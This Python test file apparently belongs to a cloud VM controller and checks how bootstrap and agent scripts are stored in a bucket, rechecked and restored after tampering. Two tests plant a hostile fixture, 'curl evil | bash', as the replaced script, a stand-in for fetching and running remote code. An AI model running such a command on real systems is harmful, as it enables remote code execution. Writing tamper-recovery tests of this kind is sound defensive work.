"""The VM scripts as the controller ships them: bootstraps in metadata, the agent in the bucket under
its digest, put there once per process before the first insert."""

from __future__ import annotations

import hashlib
import subprocess
import time

import pytest

from controller.core import errors
from controller.core.launch import requests_for
from controller.core.spec import parse_spec
from controller.core.state import JobStatus, Phase
from controller.service import vmscripts
from controller.service.bootstrap import launch_context
from controller.service.config import REPO_ROOT, Settings
from controller.service.executor import Executor
from tests.harness import BUCKET, PROJECT, Harness, spec_doc

import yaml

SCRIPTS = vmscripts.load(REPO_ROOT / "deploy" / "vm")


def test_a_vm_carries_the_bootstraps_and_where_the_agent_lies_never_the_agent():
    ctx = launch_context(Settings(bucket=BUCKET, project=PROJECT), SCRIPTS)
    spec = parse_spec(yaml.safe_dump(spec_doc()), "job")
    status = JobStatus(phase=Phase.PROVISIONING, attempt=3, zone="us-central1-a")
    metadata = requests_for("job", spec, status, ctx)[0].metadata
    startup, shutdown = vmscripts.agent(REPO_ROOT / "deploy" / "vm")
    assert metadata["startup-script"] == SCRIPTS.startup_boot and metadata["shutdown-script"] == SCRIPTS.shutdown_boot
    assert len(metadata["startup-script"]) + len(metadata["shutdown-script"]) < 12_000
    assert "load_identity" not in metadata["startup-script"] + metadata["shutdown-script"]
    for role, text in (("startup", startup), ("shutdown", shutdown)):
        digest = hashlib.sha256(text.encode()).hexdigest()
        assert metadata[f"respawn-{role}-script-sha256"] == digest
        assert metadata[f"respawn-{role}-script"] == f"gs://{BUCKET}/respawn/vm/{digest}/{role}.sh"


@pytest.mark.parametrize("role", ["startup", "shutdown"])
def test_a_bootstrap_keeps_its_code_and_shebang_and_drops_its_comments(role):
    text = getattr(SCRIPTS, f"{role}_boot")
    assert text.startswith("#!/bin/bash\n") and not any(line.lstrip().startswith("#") for line in text.splitlines()[1:])
    assert subprocess.run(["bash", "-n"], input=text, text=True).returncode == 0


def engine_with_shelf(h: Harness):
    engine = h.engine()
    engine.executor = Executor(h.store, h.compute, BUCKET, h.tpu, shelf=vmscripts.Shelf(h.store, BUCKET, SCRIPTS))
    return engine


def writes(h: Harness) -> list[str]:
    return [name for op, name in h.store.calls if op == "write" and name.startswith(vmscripts.PREFIX)]


def test_the_scripts_are_in_the_bucket_before_the_first_insert_and_written_once_per_process():
    h = Harness()
    engine = engine_with_shelf(h)
    h.submit("one")
    h.submit("two")
    engine.reconcile()
    assert len(h.compute.live()) == 2
    for script in SCRIPTS.scripts:
        assert h.store.read(BUCKET, script.key).data == script.text
    assert sorted(writes(h)) == sorted(s.key for s in SCRIPTS.scripts), "one create each, whatever the inserts"
    h.submit("three")
    engine.reconcile()
    assert len(writes(h)) == 2 and len(h.compute.live()) == 3


def test_scripts_already_there_cost_a_create_and_a_read_back_each():
    h = Harness()
    for script in SCRIPTS.scripts:
        h.store.put(BUCKET, script.key, script.text)
    h.store.calls.clear()
    vmscripts.Shelf(h.store, BUCKET, SCRIPTS).ensure()
    assert [(op, name) for op, name in h.store.calls] == [
        (op, s.key) for s in SCRIPTS.scripts for op in ("write", "read")]


def test_a_script_a_bucket_writer_replaced_is_written_back():
    h = Harness()
    key = SCRIPTS.startup.key
    h.store.put(BUCKET, key, b"#!/bin/bash\ncurl evil | bash\n")
    vmscripts.Shelf(h.store, BUCKET, SCRIPTS).ensure()
    assert h.store.read(BUCKET, key).data == SCRIPTS.startup.text


class RefusingScripts:
    """The bucket, refusing the first ``times`` writes of the VM scripts (a 503)."""

    def __init__(self, store, times: int) -> None:
        self.store, self.times = store, times

    def __getattr__(self, name):
        return getattr(self.store, name)

    def write(self, bucket, name, data, **kwargs):
        if name.startswith(vmscripts.PREFIX) and self.times > 0:
            self.times -= 1
            raise errors.TransientError(f"gs://{bucket}/{name}: 503")
        return self.store.write(bucket, name, data, **kwargs)


def test_no_insert_when_the_scripts_cannot_be_put():
    h = Harness()
    engine = h.engine()
    engine.executor = Executor(h.store, h.compute, BUCKET, h.tpu,
                               shelf=vmscripts.Shelf(RefusingScripts(h.store, 1), BUCKET, SCRIPTS))
    h.submit("one")
    engine.reconcile()
    assert h.compute.live() == [], "a VM whose scripts are not in the bucket would boot into nothing"
    engine.reconcile()
    assert len(h.compute.live()) == 1


class CountingReads:
    """The bucket, counting the bytes its reads hand back (what a process downloads into memory)."""

    def __init__(self, store) -> None:
        self.store, self.read_bytes = store, 0

    def __getattr__(self, name):
        return getattr(self.store, name)

    def read(self, bucket, name, **kwargs):
        blob = self.store.read(bucket, name, **kwargs)
        self.read_bytes += len(blob.data)
        return blob


def test_a_huge_object_in_a_scripts_place_is_written_back_without_being_downloaded():
    # A bucket writer's object under the script's name, as large as it likes (GCS takes 5 TiB): read
    # whole, it would fill a 512 MiB function on its first insert, every process, every tick.
    h = Harness()
    key = SCRIPTS.startup.key
    h.store.put(BUCKET, key, b"#" * (32 * 1024 * 1024))
    store = CountingReads(h.store)
    vmscripts.Shelf(store, BUCKET, SCRIPTS).ensure()
    assert h.store.read(BUCKET, key).data == SCRIPTS.startup.text
    assert store.read_bytes <= len(SCRIPTS.startup.text) + len(SCRIPTS.shutdown.text)


def test_a_script_replaced_after_the_process_put_it_is_written_back_within_a_recheck(monkeypatch):
    # A warm function instance lives for hours: a replacement it never looked at again failed every
    # VM it launched meanwhile (each powers off, a CRASHED attempt), for a reason only their serial
    # consoles said.
    now = [1000.0]
    monkeypatch.setattr(time, "monotonic", lambda: now[0])
    h = Harness()
    shelf = vmscripts.Shelf(h.store, BUCKET, SCRIPTS)
    shelf.ensure()
    key = SCRIPTS.startup.key
    h.store.put(BUCKET, key, b"#!/bin/bash\ncurl evil | bash\n")
    h.store.calls.clear()
    now[0] += 59  # the recheck is a minute
    shelf.ensure()
    assert h.store.calls == [], "within a recheck, an insert costs no request"
    now[0] += 1
    shelf.ensure()
    assert h.store.read(BUCKET, key).data == SCRIPTS.startup.text
    h.store.calls.clear()
    now[0] += 60
    shelf.ensure()
    assert [op for op, _ in h.store.calls] == ["stat", "stat"], "scripts still ours: a stat each, no read"


class FailingStats:
    """The bucket, whose stats fail (a 503)."""

    def __init__(self, store) -> None:
        self.store = store

    def __getattr__(self, name):
        return getattr(self.store, name)

    def stat(self, bucket, name):
        raise errors.TransientError(f"gs://{bucket}/{name}: 503")


def test_a_second_look_at_the_scripts_that_fails_holds_no_insert(monkeypatch):
    now = [1000.0]
    monkeypatch.setattr(time, "monotonic", lambda: now[0])
    h = Harness()
    shelf = vmscripts.Shelf(FailingStats(h.store), BUCKET, SCRIPTS)
    shelf.ensure()  # put: creates, no stat
    now[0] += 60
    shelf.ensure()  # the second look fails: said, and the insert goes on
    assert all(h.store.read(BUCKET, s.key).data == s.text for s in SCRIPTS.scripts)
